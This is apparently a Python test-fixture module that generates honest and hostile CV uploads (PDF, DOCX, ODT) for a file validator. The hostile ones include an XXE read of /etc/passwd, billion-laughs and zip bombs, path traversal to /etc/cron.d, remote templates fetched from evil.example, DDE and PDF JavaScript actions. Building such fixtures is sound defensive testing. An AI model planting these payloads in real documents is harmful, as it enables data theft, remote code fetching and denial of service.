"""Documents made on the spot: honest ones, and every kind of dishonest one."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
BODY = '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:p>Ten years.</w:p></w:document>'
ODT = "application/vnd.oasis.opendocument.text"
CONTENT = '<?xml version="1.0"?><d:content xmlns:d="urn:d">Ten years.</d:content>'
RELS = '<?xml version="1.0"?><Relationships><Relationship {0}/></Relationships>'
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **save):
    made = pikepdf.new()
    for _ in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        text = b"BT /F1 12 Tf 72 720 Td (Ten years on call) Tj ET"
        page.Contents = made.make_stream(text)
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def packed(parts: dict[str, str | bytes], *, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(**more: str | bytes) -> bytes:
    extra = {name.replace("__", "/"): content for name, content in more.items()}
    parts = {"[Content_Types].xml": TYPES, "word/document.xml": BODY}
    return packed({**parts, **extra})


def docx_with(name: str, content: str | bytes) -> bytes:
    return packed(
        {"[Content_Types].xml": TYPES, "word/document.xml": BODY, name: content}
    )


def odt_with(name: str = "meta.xml", content: str | bytes = CONTENT) -> bytes:
    return packed({"mimetype": ODT, "content.xml": CONTENT, name: content})


def opens_with(action: dict[str, object]) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(action))

    return pdf(change)


def opens_on_a_page(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def attach(made: pikepdf.Pdf) -> None:
    made.attachments["more.txt"] = b"more"


def hidden_script(made: pikepdf.Pdf) -> None:
    nested = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )
    made.pages[0].obj.Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=nested)]
    )


def form_of_xml(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))


def table_bomb() -> bytes:
    """A PDF whose table of objects unpacks to half a gigabyte."""
    packer = zlib.compressobj(9)
    chunks = [packer.compress(bytes(1024 * 1024)) for _ in range(512)]
    body = b"".join(chunks) + packer.flush()
    head = b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    size = 512 * 1024 * 1024 // 4
    table = b"3 0 obj\n<< /Type /XRef /Size %d /W [1 2 1] /Root 1 0 R" % size
    table += b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(body)
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)
    return head + table + body + end


def zip_bomb() -> bytes:
    return docx_with("word/media/image1.png", b"\0" * (40 * 1024 * 1024))


def many_bombs() -> bytes:
    parts = {f"word/media/{n}.xml": b"x" * (1024 * 1024) for n in range(60)}
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": BODY, **parts})


def understated() -> bytes:
    """A part that unpacks to more than the directory says."""
    whole = bytearray(docx_with("word/x.xml", b"y" * 900_000))
    size = (900_000).to_bytes(4, "little")
    while (at := whole.find(size)) >= 0:
        whole[at : at + 4] = (1_000).to_bytes(4, "little")
    return bytes(whole)


def overlapping() -> bytes:
    """Two entries of the directory that share one body."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", BODY)
        archive.writestr("a.xml", CONTENT)
        twin = zipfile.ZipInfo("b.xml")
        first = archive.getinfo("a.xml")
        twin.header_offset, twin.CRC = first.header_offset, first.CRC
        twin.compress_size, twin.file_size = first.compress_size, first.file_size
        archive.filelist.append(twin)
    return out.getvalue()


def locked_zip() -> bytes:
    whole = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := whole.find(mark, start)) >= 0:
            whole[start + at] |= 1
            start += 4
    return bytes(whole)


def relation(words: str) -> bytes:
    return docx_with("word/_rels/document.xml.rels", RELS.format(words))


HONEST = {
    "cv.pdf": pdf,
    "Curriculum.PDF": lambda: pdf(opens_on_a_page, pages=3),
    "cv.docx": docx,
    "with links.docx": lambda: relation(
        'Type="x/hyperlink" Target="https://example.com" TargetMode="External"'
    ),
    "cv.odt": odt_with,
}
# Each with its name, what is in it, and why it is refused.
REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    ("empty.pdf", lambda: b"", "empty"),
    ("large.pdf", lambda: b"%PDF-" + b"0" * (5 * 1024 * 1024 - 4), "too_large"),
    ("cv.txt", lambda: b"Ten years on call.", "unknown"),
    ("cv.pdf", lambda: b"\x7fELF\x02\x01\x01", "unknown"),
    ("cv.docx", lambda: packed({"readme.xml": CONTENT}), "unknown"),
    (
        "cv.odt",
        lambda: packed({"mimetype": "application/zip", "content.xml": CONTENT}),
        "unknown",
    ),
    ("cv.docx", pdf, "extension"),
    ("cv.pdf", docx, "extension"),
    ("cv.docx", odt_with, "extension"),
    ("cv.pdf.exe", pdf, "extension"),
    ("cv", pdf, "extension"),
    ("cut.pdf", lambda: pdf()[:200], "broken"),
    ("cut.docx", lambda: docx()[:-30], "broken"),
    ("garbage.pdf", lambda: b"%PDF-1.7\n" + b"garbage " * 99 + b"\n%%EOF", "broken"),
    ("xml.docx", lambda: docx_with("word/x.xml", "<a><b></a>"), "broken"),
    ("up.docx", lambda: docx_with("../../etc/cron.d/x", "x"), "broken"),
    ("root.docx", lambda: docx_with("/etc/passwd", "x"), "broken"),
    ("drive.docx", lambda: docx_with("C:/x", "x"), "broken"),
    ("slash.docx", lambda: docx_with("..\\..\\x", "x"), "broken"),
    (
        "lzma.docx",
        lambda: packed({"[Content_Types].xml": TYPES}, how=zipfile.ZIP_LZMA),
        "broken",
    ),
    (
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="x", owner="y")),
        "encrypted",
    ),
    (
        "owned.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="", owner="y")),
        "encrypted",
    ),
    ("locked.docx", locked_zip, "encrypted"),
    (
        "locked.odt",
        lambda: odt_with("META-INF/manifest.xml", "<m:encryption-data xmlns:m='u'/>"),
        "encrypted",
    ),
    (
        "script.pdf",
        lambda: opens_with({"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("x")}),
        "active",
    ),
    ("launch.pdf", lambda: opens_with({"/S": pikepdf.Name.Launch}), "active"),
    ("send.pdf", lambda: opens_with({"/S": pikepdf.Name.SubmitForm}), "active"),
    ("hidden.pdf", lambda: pdf(hidden_script), "active"),
    (
        "packed.pdf",
        lambda: pdf(
            hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "active",
    ),
    ("xfa.pdf", lambda: pdf(form_of_xml), "active"),
    ("macro.docx", lambda: docx_with("word/vbaProject.bin", b"x"), "active"),
    ("activex.docx", lambda: docx_with("word/activeX/activeX1.xml", "<a/>"), "active"),
    ("basic.odt", lambda: odt_with("Basic/Standard/Module1.xml", "<a/>"), "active"),
    ("script.odt", lambda: odt_with("Scripts/python/x.py", "x"), "active"),
    ("xxe.docx", lambda: docx_with("word/x.xml", ENTITY), "active"),
    (
        "xxe16.docx",
        lambda: docx_with(
            "word/x.xml",
            ENTITY.replace('1.0"', '1.0" encoding="UTF-16"').encode("utf-16"),
        ),
        "active",
    ),
    ("laughs.odt", lambda: odt_with("meta.xml", LAUGHS), "active"),
    (
        "template.docx",
        lambda: relation(
            'Type="x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"'
        ),
        "active",
    ),
    (
        "beacon.docx",
        lambda: relation(
            'Target="https://evil.example/x.png" Type="x/image" TargetMode="External"'
        ),
        "active",
    ),
    (
        "dde.docx",
        lambda: packed(
            {
                "[Content_Types].xml": TYPES,
                "word/document.xml": BODY.replace(
                    "Ten years.", "<w:instrText>DDEAUTO c:\\\\x</w:instrText>"
                ),
            }
        ),
        "active",
    ),
    ("attached.pdf", lambda: pdf(attach), "attached"),
    (
        "embedded.docx",
        lambda: docx_with("word/embeddings/sheet.xlsx", b"x"),
        "attached",
    ),
    ("object.odt", lambda: odt_with("Object 1/content.xml", CONTENT), "attached"),
    ("zip.pdf", lambda: pdf() + docx(), "two_in_one"),
    (
        "html.pdf",
        lambda: pdf().replace(b"%PDF-1.3", b"%PDF-1.3<script>alert(1)</script>", 1),
        "two_in_one",
    ),
    ("tail.pdf", lambda: pdf() + b"<script>alert(1)</script>", "two_in_one"),
    ("tail.docx", lambda: docx() + b"MZ and a program", "two_in_one"),
    ("long.pdf", lambda: pdf(pages=51), "too_long"),
    ("bomb.docx", zip_bomb, "too_much"),
    ("bombs.docx", many_bombs, "too_much"),
    ("overlap.docx", overlapping, "too_much"),
]
